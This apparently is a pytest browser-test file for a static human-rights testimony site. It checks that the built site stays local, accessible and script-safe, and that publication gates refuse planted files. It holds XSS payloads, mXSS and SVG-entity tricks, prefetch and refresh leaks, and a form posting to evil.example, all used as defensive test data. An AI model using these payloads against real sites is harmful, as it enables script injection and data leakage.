"""The built site in headless Chromium with every request off 127.0.0.1 blocked: nothing
leaves the site, nothing errs, no script from a case runs, and it reads without JavaScript."""

from __future__ import annotations

import contextlib
import http.server
import os
import re
import shutil
import threading
import urllib.parse
from collections.abc import Iterator
from dataclasses import dataclass, field
from functools import partial
from pathlib import Path
from typing import Any

import pytest

from temoin import keys
from temoin.publish import build as build_mod
from tests.conftest import REPO_ROOT
from tests.helpers import Org, make_org, stop_gpg

pytestmark = pytest.mark.browser

CHROMIUM = "/usr/bin/chromium"
CHROMIUM_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-quic",
                 "--disable-background-networking", "--disable-component-update",
                 "--disable-sync"]
# Screenshots for a reviewer, outside the source tree: $TEMOIN_SCREENSHOTS or pytest's
# temporary folder (set by the `shots` fixture).
SHOTS = Path(os.environ.get("TEMOIN_SCREENSHOTS") or "/nonexistent")
AXE = REPO_ROOT / "tests" / "vendor" / "axe-core" / "axe.min.js"  # 4.14.1, MPL-2.0
NARROW = {"width": 390, "height": 844}
WIDE = {"width": 1280, "height": 900}
HOSTILE_TEXT = ("Les agents sont arrivés. <img src=x onerror=\"alert('img')\"> "
                "<script>alert('script')</script> <svg onload=alert('svg')></svg> "
                "[lien](javascript:alert('link')) <iframe src=\"https://evil.example/\">"
                "</iframe> ![pixel](https://tracker.example.com/p.gif)")


@dataclass
class Built:
    """The hostile test site: where it is and the ids worth opening."""

    site: Path
    hostile: str
    normal: str


@pytest.fixture(scope="module", autouse=True)
def shots(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Where screenshots go: $TEMOIN_SCREENSHOTS, else pytest's temporary folder."""
    global SHOTS
    SHOTS = Path(os.environ.get("TEMOIN_SCREENSHOTS") or tmp_path_factory.mktemp("shots"))
    SHOTS.mkdir(parents=True, exist_ok=True)
    return SHOTS


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Built]:
    """A repo with ordinary cases and one whose title and text carry script, built."""
    root = tmp_path_factory.mktemp("browser")
    home = root / "gnupg"
    home.mkdir(mode=0o700)
    keyring = keys.Keyring(home)
    fprs = {"inbox": keyring.generate("Inbox", "inbox@example.invalid"),
            "alice": keyring.generate("Alice", "alice@example.invalid"),
            "bob": keyring.generate("Bob", "bob@example.invalid")}
    org = make_org(root, keyring, fprs)
    normal = org.add_case(narrative="Récit anonymisé : un homme arrêté puis détenu.")
    org.add_case(urgent=True, narrative="Risque de torture maintenant.")
    # Script in the title or a double quote in the summary is refused by the gates today
    # (tests/test_gates_build.py); here the text and summary, which the site must show.
    hostile = org.add_case(narrative=HOSTILE_TEXT,
                           summary={"fr": "<img src=x onerror=alert('summary')>",
                                    "en": "<b onmouseover=alert(1)>x</b>"})
    report = build_mod.build(org.repo, org.cfg, root / "site", keyring)
    yield Built(report.site_dir, hostile.id, normal.id)
    stop_gpg(home)


class _Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *args: Any) -> None:  # no request log in test output
        pass


@pytest.fixture(scope="module")
def server(built: Built) -> Iterator[str]:
    """The built site on http://127.0.0.1:<free port>/ (a plain static server)."""
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0),
                                            partial(_Quiet, directory=str(built.site)))
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}/"
    httpd.shutdown()
    httpd.server_close()


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    """Debian's headless Chromium through Playwright, without background traffic."""
    if not Path(CHROMIUM).exists():
        if os.environ.get("CI"):
            pytest.fail(f"{CHROMIUM} missing: `make system` installs the chromium package")
        pytest.skip(f"{CHROMIUM} missing")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        yield b
        b.close()


@dataclass
class Visit:
    """What one browser context saw: requests it blocked, errors, dialogs."""

    blocked: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)


def _context(browser: Any, visit: Visit, javascript: bool = True,
             viewport: dict[str, int] | None = None) -> Any:
    ctx = browser.new_context(java_script_enabled=javascript, service_workers="block",
                              viewport=viewport or WIDE)

    def route(r: Any) -> None:
        if urllib.parse.urlsplit(r.request.url).hostname == "127.0.0.1":
            r.continue_()
        else:
            visit.blocked.append(r.request.url)
            r.abort()

    ctx.route("**/*", route)
    return ctx


def _open(ctx: Any, visit: Visit, url: str, shot: str) -> Any:
    page = ctx.new_page()
    page.on("console", lambda m: visit.errors.append(f"{url}: {m.text}")
            if m.type == "error" else None)
    page.on("pageerror", lambda e: visit.errors.append(f"{url}: {e}"))
    page.on("response", lambda r: visit.errors.append(f"{url}: HTTP {r.status} {r.url}")
            if r.status >= 400 else None)

    def dialog(d: Any) -> None:
        visit.dialogs.append(f"{url}: {d.message}")
        d.dismiss()

    page.on("dialog", dialog)
    response = page.goto(url, wait_until="load")
    assert response is not None and response.status == 200, url
    page.wait_for_timeout(500)  # let late requests (sitemaps, search worker) happen
    SHOTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(SHOTS / f"{shot}.png"), full_page=True)
    return page


def _sections(site: Path) -> list[str]:
    """Every top-level page of the site (home, listings, submit, bulletins, statistics…)."""
    paths = [""]
    for lang in ("", "en/"):
        base = site / lang
        paths += [f"{lang}{d.name}/" for d in sorted(base.iterdir())
                  if d.is_dir() and (d / "index.html").exists() and d.name != "en"]
    return ["en/", *paths] if (site / "en" / "index.html").exists() else paths


def test_pages_make_no_outside_request_error_or_dialog(browser: Any, server: str,
                                                       built: Built) -> None:
    pages = [*_sections(built.site), f"cases/{built.normal}/", f"cases/{built.hostile}/",
             "404.html"]
    assert "temoigner/" in pages and "cases/" in pages
    visit = Visit()
    ctx = _context(browser, visit)
    try:
        for path in pages:
            name = (path.strip("/").replace("/", "_") or "home").replace(".html", "")
            _open(ctx, visit, server + path, name).close()
    finally:
        ctx.close()
    assert visit.blocked == [], visit.blocked
    assert visit.errors == [], "\n".join(sorted(set(visit.errors)))
    assert visit.dialogs == [], visit.dialogs


def test_case_script_is_shown_as_text_and_never_runs(browser: Any, server: str,
                                                     built: Built) -> None:
    visit = Visit()
    ctx = _context(browser, visit)
    try:
        page = _open(ctx, visit, f"{server}cases/{built.hostile}/", "hostile-case")
        text = page.inner_text("article")
        assert "<script>alert('script')</script>" in text
        assert "<img src=x onerror=" in text
        page.mouse.move(200, 300)  # would fire an injected onmouseover
        for el in page.query_selector_all("article a, article img"):
            el.hover()
        assert page.evaluate("document.querySelectorAll('article script, article iframe,"
                             " article [onerror], article [onload], article [onmouseover]')"
                             ".length") == 0
    finally:
        ctx.close()
    assert visit.dialogs == [] and visit.blocked == []  # console errors: the test above


def test_search_works_under_the_csp(browser: Any, server: str, built: Built) -> None:
    visit = Visit()
    ctx = _context(browser, visit)
    try:
        page = _open(ctx, visit, server, "search-home")
        query = "input[data-md-component=search-query]"
        # A query typed before the search worker has built its index is dropped: type
        # again until results come (or 30 s pass).
        for _ in range(30):
            page.fill(query, "")
            page.type(query, "Gitega")
            page.wait_for_timeout(1000)
            if page.query_selector_all(".md-search-result__item"):
                break
        page.screenshot(path=str(SHOTS / "search-results.png"))
        assert page.is_visible(".md-search-result__item >> nth=0")
    finally:
        ctx.close()
    assert visit.blocked == []
    assert not [e for e in visit.errors if "Content Security Policy" in e or "Refused" in e]


def test_content_shows_without_javascript(browser: Any, server: str, built: Built) -> None:
    visit = Visit()
    ctx = _context(browser, visit, javascript=False)
    try:
        case = _open(ctx, visit, f"{server}cases/{built.normal}/", "nojs-case")
        assert "un homme arrêté puis détenu" in case.inner_text("article")
        assert case.is_visible("article h1")
        listing = _open(ctx, visit, f"{server}cases/", "nojs-cases")
        links = listing.locator(f"article a[href*='{built.normal}']")
        assert links.count() >= 1 and links.first.is_visible()
        submit = _open(ctx, visit, f"{server}temoigner/", "nojs-submit")
        submit.click("#temoin-key-block summary")  # below the form, one tap away
        assert "BEGIN PGP PUBLIC KEY BLOCK" in submit.inner_text("article")
    finally:
        ctx.close()
    assert visit.blocked == []


def test_submit_page_encrypts_a_file_under_the_built_csp(browser: Any, server: str,
                                                        built: Built) -> None:
    # The real build's meta CSP (hashes, no 'unsafe-*'), every non-local request blocked:
    # the pinned script and OpenPGP.js load, and a file leaves only as a binary download.
    from temoin.site import csp

    html = (built.site / "temoigner" / "index.html").read_text(encoding="utf-8")
    script = (built.site / "assets" / "temoin" / "submit.js").read_bytes()
    lib = (built.site / "assets" / "temoin" / "vendor" / "openpgp.min.mjs").read_bytes()
    policy = csp.scan(html).csp_metas[0][1]
    assert f"'{csp.sri(script)}'" in policy and f"'{csp.sri(lib)}'" in policy
    assert "unsafe-inline" not in policy and "unsafe-eval" not in policy
    visit = Visit()
    ctx = _context(browser, visit)
    ctx.set_default_timeout(60_000)
    try:
        for width in (390, 1280):
            page = _open(ctx, visit, f"{server}temoigner/", "submit-open")
            page.set_viewport_size({"width": width, "height": 900})
            page.fill("#temoin-what", "Un voisin arrêté.")
            page.check("#temoin-consent-anonymised")
            page.set_input_files("#temoin-file", files=[{
                "name": "photo.jpg", "mimeType": "image/jpeg", "buffer": os.urandom(200_000)}])
            page.click("#temoin-go")
            page.wait_for_selector("#temoin-result-file:not([hidden])")
            with page.expect_download() as info:
                page.click("#temoin-download-file")
            assert info.value.suggested_filename == "message.gpg"
            page.screenshot(path=str(SHOTS / f"submit-encrypted-{width}.png"), full_page=True)
            page.close()
    finally:
        ctx.close()
    assert visit.blocked == [], visit.blocked
    assert visit.errors == [], "\n".join(sorted(set(visit.errors)))
    assert visit.dialogs == []


def _page_types(built: Built, lang: str) -> dict[str, str]:
    """One page of every type in `lang`, by name."""
    p = "" if lang == "fr" else "en/"
    slug = {"fr": {"alerts": "alertes", "stats": "statistiques", "data": "donnees",
                   "submit": "temoigner", "method": "methode", "about": "a-propos"},
            "en": {"alerts": "alerts", "stats": "statistics", "data": "data",
                   "submit": "submit", "method": "method", "about": "about"}}[lang]
    bulletin = sorted(d.name for d in (built.site / p / "bulletins").iterdir()
                      if d.is_dir() and (d / "index.html").exists())[0]
    year = sorted(d.name for d in (built.site / p / "cases" / "year").iterdir())[0]
    return {"home": p, "cases": f"{p}cases/", "year": f"{p}cases/year/{year}",
            "case": f"{p}cases/{built.normal}/", "bulletins": f"{p}bulletins/",
            "bulletin": f"{p}bulletins/{bulletin}/", "stats": f"{p}{slug['stats']}/",
            "alerts": f"{p}{slug['alerts']}/", "submit": f"{p}{slug['submit']}/",
            "data": f"{p}{slug['data']}/", "method": f"{p}{slug['method']}/",
            "about": f"{p}{slug['about']}/", "404": f"{p}404.html"}


def test_english_walk_never_lands_on_a_french_page(browser: Any, server: str,
                                                    built: Built) -> None:
    """From the English home, follow every link of every English page (but the language
    switch): each page is English, and the switch lands on the same page in French."""
    visit = Visit()
    ctx = _context(browser, visit)
    seen: set[str] = set()
    todo = [server + "en/"]
    french: list[str] = []
    try:
        while todo and len(seen) < 60:
            url = todo.pop(0)
            if url in seen:
                continue
            seen.add(url)
            page = ctx.new_page()
            page.goto(url, wait_until="load")
            if page.evaluate("document.documentElement.lang") != "en":
                french.append(url)
            hrefs = page.evaluate("""() => [...document.querySelectorAll('a[href]')]
                .filter(a => !a.closest('.md-select') && !a.closest('[lang]:not(html)'))
                .map(a => a.href.split('#')[0])""")
            switch = page.evaluate("""() => (document.querySelector(
                '.md-select a[hreflang=fr]') || {}).href""")
            page.close()
            assert switch, url
            rel = url[len(server) + 3:]
            if rel.startswith("cases/") and rel.count("/") == 2:  # a case page
                assert switch == f"{server}{rel}", (url, switch)
            for h in hrefs:
                if h.startswith(server) and h.endswith("/") and h not in seen:
                    if not h.startswith(server + "en/"):
                        french.append(f"{url} -> {h}")
                    else:
                        todo.append(h)
    finally:
        ctx.close()
    assert french == [], french
    assert len(seen) > 15
    assert visit.blocked == []


@pytest.mark.parametrize("lang", ["fr", "en"])
def test_every_page_type_fits_390_px_and_passes_axe(browser: Any, server: str, built: Built,
                                                    lang: str) -> None:
    """Each page type at 390 and 1280 px: no sideways scroll of the page, no critical or
    serious axe-core violation; a screenshot of each for review."""
    axe = AXE.read_text(encoding="utf-8")
    problems: list[str] = []
    visit = Visit()
    for width, viewport in (("390", NARROW), ("1280", WIDE)):
        ctx = _context(browser, visit, viewport=viewport)
        try:
            for name, path in _page_types(built, lang).items():
                page = _open(ctx, visit, server + path, f"{lang}-{name}-{width}")
                if page.evaluate("document.documentElement.lang") != lang:
                    problems.append(f"{path}: html lang is not {lang}")
                over = page.evaluate("document.documentElement.scrollWidth")
                if width == "390" and over > 390:
                    problems.append(f"{path} at 390 px: the page is {over} px wide")
                page.evaluate(axe)
                found = page.evaluate("""async () => (await axe.run(document, {resultTypes:
                    ['violations']})).violations.filter(v => ['critical', 'serious']
                    .includes(v.impact)).map(v => v.id + ': ' + v.nodes.slice(0, 3)
                    .map(n => n.target.join(' ')).join(' | '))""")
                problems += [f"{path} at {width} px: {v}" for v in found]
                page.close()
        finally:
            ctx.close()
    assert problems == [], "\n".join(problems)
    assert visit.blocked == []
    assert visit.errors == [], "\n".join(sorted(set(visit.errors)))


def test_planted_script_and_override_are_refused_and_never_reach_readers(
        browser: Any, org: Org, tmp_path: Path) -> None:
    """Issue 20's attack: a script under site_src/assets/ and one line to load it. In
    Chromium the planted script would run under the site's own CSP ('self'); `temoin build`
    refuses the line in an override by name (only Témoin's own templates render), the line
    in a page unsigned (trust root) and co-signed (gates), and the published site stays
    the clean one."""
    from click.testing import CliRunner

    from temoin.cli import main
    from temoin.site.engine import run_mkdocs

    org.add_case()  # GNUPGHOME: the org's keyring (the `org` fixture)
    runner = CliRunner()
    assert runner.invoke(main, ["--repo", str(org.repo), "build"]).exit_code == 0
    clean = (org.repo / "site" / "SHA256SUMS").read_bytes()
    (org.repo / "site_src" / "assets" / "evil.js").write_text(
        "window.__planted = true;\n")
    main_html = org.repo / "site_src" / "overrides" / "main.html"
    own = main_html.read_text()
    main_html.write_text(own + '{% block scripts %}{{ super() }}'
                         '<script src="{{ base_url }}/assets/evil.js"></script>'
                         "{% endblock %}\n")
    override = runner.invoke(main, ["--repo", str(org.repo), "build"])
    assert override.exit_code != 0, override.output
    assert "theme.custom_dir: site_src/overrides/main.html: not one of Témoin's own " \
        "templates" in override.output
    assert (org.repo / "site" / "SHA256SUMS").read_bytes() == clean  # nothing published
    main_html.write_text(own)  # the same line in a hand-written page instead
    page = org.repo / "site_src" / "a-propos.md"
    page.write_text(page.read_text() + '\n<script src="../assets/evil.js"></script>\n')
    unsigned = runner.invoke(main, ["--repo", str(org.repo), "build"])
    assert unsigned.exit_code == 3, unsigned.output
    assert "site_src/assets/evil.js: added" in unsigned.output
    assert "site_src/a-propos.md: changed" in unsigned.output
    org.resign_site()
    cosigned = runner.invoke(main, ["--repo", str(org.repo), "build"])
    assert cosigned.exit_code == 4, cosigned.output
    assert "[active-content] assets/evil.js: script file is neither" in cosigned.output
    assert "[active-content] a-propos/index.html: <script src> assets/evil.js" \
        in cosigned.output
    assert (org.repo / "site" / "SHA256SUMS").read_bytes() == clean  # nothing published
    attacked = tmp_path / "attacked"  # what the build would have signed, gates aside
    run_mkdocs(org.repo, attacked)
    seen = {}
    for name, root in (("attacked", attacked), ("published", org.repo / "site")):
        httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0),
                                                partial(_Quiet, directory=str(root)))
        threading.Thread(target=httpd.serve_forever, daemon=True).start()
        visit = Visit()
        ctx = _context(browser, visit)
        try:
            opened = _open(ctx, visit, f"http://127.0.0.1:{httpd.server_address[1]}/a-propos/",
                           f"planted-{name}")
            seen[name] = opened.evaluate("() => window.__planted === true")
        finally:
            ctx.close()
            httpd.shutdown()
            httpd.server_close()
    assert seen == {"attacked": True, "published": False}


# -- hostile files (issue 15, item 3) -------------------------------------------------------
# Each file is planted in a copy of the good built site and opened in Chromium: the test
# records that the class is live (a script ran, a request left 127.0.0.1), then that the
# publication gate refuses that same site. tests/test_gates_build.py shows `temoin build`
# refusing each class (exit 4, no site).

XHTML = ("<html xmlns='http://www.w3.org/1999/xhtml'><body>"
         "<script>alert('xhtml')</script></body></html>")
HOSTILE_FILES: list[tuple[str, bytes, bool, str]] = [
    # (path, content, with JavaScript, what the browser did: "dialog" or "request")
    ("x.xhtml", XHTML.encode(), True, "dialog"),
    ("entity.svg", b"<!DOCTYPE svg [<!ENTITY x '&#60;script&#62;alert(\"svg\")&#60;/script&#62;'>]>"
     b"<svg xmlns='http://www.w3.org/2000/svg'>&x;</svg>", True, "dialog"),
    ("feed.xml", b"<feed xmlns='http://www.w3.org/2005/Atom'><h:script "
     b"xmlns:h='http://www.w3.org/1999/xhtml'>alert('xml')</h:script></feed>", True, "dialog"),
    ("refresh.html", b'<meta http-equiv="refresh" content="0 https://evil.example/"><p>x',
     True, "request"),
    ("mxss.html", b'<noscript><p title="</noscript><img src=x onerror=alert(\'mxss\')>">'
     b"</p></noscript>", True, "dialog"),
    ("nojs.html", b'<noscript><img src="https://tracker.example/n.gif"></noscript>', False,
     "request"),
    ("utf16.html", b"\xff\xfe" + "<script>alert('utf16')</script>".encode("utf-16-le"), True,
     "dialog"),
    ("prefetch.html", b'<link rel="prefetch" href="https://evil.example/p"><p>x', True,
     "request"),
    ("preload.html", b'<link rel="preload" as="image" href="https://evil.example/i.png"><p>x',
     True, "request"),
    ("modulepreload.html", b'<link rel="modulepreload" href="https://evil.example/m.js"><p>x',
     True, "request"),
]


@contextlib.contextmanager
def _serve(folder: Path) -> Iterator[str]:
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0),
                                            partial(_Quiet, directory=str(folder)))
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{httpd.server_address[1]}/"
    finally:
        httpd.shutdown()
        httpd.server_close()


@pytest.fixture(scope="module")
def clean(built: Built, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A copy of the good built site as the gates see it (the manifest comes after them),
    which they pass: each hostile file is planted in a copy of this copy."""
    from temoin import gates

    site = tmp_path_factory.mktemp("clean") / "site"
    shutil.copytree(built.site, site)
    (site / "SHA256SUMS").unlink()
    (site / "SHA256SUMS.asc").unlink(missing_ok=True)
    assert gates.scan(site) == []
    return site


@pytest.mark.parametrize("rel,content,javascript,effect", HOSTILE_FILES,
                         ids=[h[0] for h in HOSTILE_FILES])
def test_hostile_file_runs_in_chromium_and_the_gate_refuses_it(
        browser: Any, clean: Path, tmp_path: Path, rel: str, content: bytes,
        javascript: bool, effect: str) -> None:
    from temoin import gates

    site = tmp_path / "site"
    shutil.copytree(clean, site)  # the same bytes the gates passed (`clean`)
    (site / rel).write_bytes(content)
    visit = Visit()
    with _serve(site) as url:
        ctx = _context(browser, visit, javascript=javascript)
        try:
            page = ctx.new_page()
            page.on("dialog", lambda d: (visit.dialogs.append(d.message), d.dismiss()))
            with contextlib.suppress(Exception):  # a refresh away aborts the navigation
                page.goto(url + rel, wait_until="load")
            page.wait_for_timeout(1500)
        finally:
            ctx.close()
    if effect == "dialog":
        assert visit.dialogs, f"{rel}: the script did not run (blocked: {visit.blocked})"
    else:
        assert visit.blocked, f"{rel}: no request left the site"
    found = gates.scan(site)
    assert found and {f.path for f in found} == {rel}, found


def test_a_form_posting_off_the_site_is_stopped_by_the_csp_and_refused_by_the_gate(
        browser: Any, built: Built, tmp_path: Path) -> None:
    """form-action (issue 15): a form the gates missed still cannot send to another site
    under the built pages' policy; the same page without it does."""
    from temoin import gates

    site = tmp_path / "site"
    shutil.copytree(built.site, site)
    (site / "SHA256SUMS").unlink()
    (site / "SHA256SUMS.asc").unlink(missing_ok=True)
    about = (site / "a-propos" / "index.html").read_text(encoding="utf-8")
    assert "form-action 'self'" in about and "base-uri 'none'" in about
    form = ('<form id="leak" method="get" action="https://evil.example/collect">'
            '<input name="q" value="x"><button id="go">go</button></form>')
    planted = about.replace("</article>", form + "</article>", 1)
    (site / "planted").mkdir()
    (site / "planted" / "index.html").write_text(planted, encoding="utf-8")
    bare = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", planted)
    (site / "bare").mkdir()
    (site / "bare" / "index.html").write_text(bare, encoding="utf-8")
    left: dict[str, list[str]] = {}
    with _serve(site) as url:
        for name in ("planted", "bare"):
            visit = Visit()
            ctx = _context(browser, visit, javascript=False)
            try:
                page = ctx.new_page()
                page.goto(f"{url}{name}/", wait_until="load")
                with contextlib.suppress(Exception):  # the navigation away is aborted
                    page.click("#go", timeout=5000)
                page.wait_for_timeout(1500)
            finally:
                ctx.close()
            left[name] = visit.blocked
    assert left["planted"] == [] and left["bare"], left
    found = {(f.gate, f.path) for f in gates.scan(site)}
    assert ("third-party", "planted/index.html") in found
